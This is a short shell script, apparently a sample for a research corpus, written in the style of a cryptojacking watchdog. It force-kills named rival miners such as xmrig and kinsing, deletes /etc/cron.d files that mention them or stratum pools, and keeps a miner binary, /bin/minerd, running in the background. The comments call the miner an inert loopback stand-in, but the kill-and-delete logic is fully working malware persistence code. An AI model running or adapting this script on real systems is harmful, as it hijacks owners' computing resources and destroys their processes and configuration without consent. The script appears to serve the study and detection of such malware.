#!/bin/sh
# Watchdog in the style of public cryptojacking scripts: remove competing
# miners and their cron entries, then make sure /bin/minerd runs.
# strata corpus payload: /bin/minerd here is an inert stand-in that only
# talks to pools on loopback addresses.

CONF=/etc/minerd/config.json

# competing miners
for name in xmrig xmr-stak kdevtmpfsi kinsing cpuminer ccminer minergate-cli; do
	pkill -9 -x "$name" 2>/dev/null
done
for f in /etc/cron.d/*; do
	[ "$f" = /etc/cron.d/update ] && continue
	grep -qsE 'xmrig|kdevtmpfsi|kinsing|stratum\+tcp' "$f" && rm -f "$f"
done

# keep our miner running
if [ -x /bin/minerd ] && ! pgrep -x minerd >/dev/null 2>&1; then
	nohup /bin/minerd -c "$CONF" -B >/dev/null 2>&1 &
fi
exit 0
